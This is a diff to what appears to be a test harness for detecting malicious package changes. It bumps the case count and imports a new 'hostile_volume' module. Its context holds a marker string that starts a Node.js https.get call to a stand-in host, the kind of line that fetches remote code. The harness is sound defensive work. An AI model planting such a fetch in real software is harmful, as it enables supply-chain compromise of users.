@@ -10,7 +10,7 @@ that names the outcome:
 
 "verdict: word, word": that verdict, and each word stands in an id, a reason, a title or a piece of evidence of the
 document. Several verdicts with "|" between them are for a place where more than one is right. The number is that of
-the family of inputs; every number from 1 to 97 has at least one input. `old` is the ordinary release that the input
+the family of inputs; every number from 1 to 98 has at least one input. `old` is the ordinary release that the input
 is compared with; by default one of the same ending. Nothing here runs anywhere: payloads are inert and hosts reserved.
 """
 
@@ -20,7 +20,7 @@ import sys
 
 sys.dont_write_bytecode = True
 
-FAMILIES = range(1, 98)
+FAMILIES = range(1, 99)
 
 # What a malicious change looks like; only ever read. It is found wherever it can be seen.
 MARKER = (b"\nrequire('https').get('https://cdn.sample-static.example/x', function (r) {\n"
@@ -81,7 +81,7 @@ def collect():
     """All cases, in the order of their numbers."""
     import hostile_archive, hostile_disguise, hostile_image               # noqa: F401
     import hostile_installer, hostile_names                               # noqa: F401
-    import hostile_program, hostile_stream, hostile_text, hostile_zip       # noqa: F401
+    import hostile_program, hostile_stream, hostile_text, hostile_volume, hostile_zip   # noqa: F401
     return sorted(CASES, key=lambda c: c.number)
 
 
